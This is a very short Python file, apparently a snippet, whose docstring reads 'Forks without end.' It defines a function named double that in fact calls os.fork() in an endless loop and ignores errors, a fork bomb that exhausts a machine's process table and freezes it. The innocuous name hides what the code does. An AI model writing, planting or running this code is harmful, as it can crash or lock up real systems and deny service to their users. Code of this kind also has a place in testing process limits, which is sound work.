"""Forks without end."""

import os


def double(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
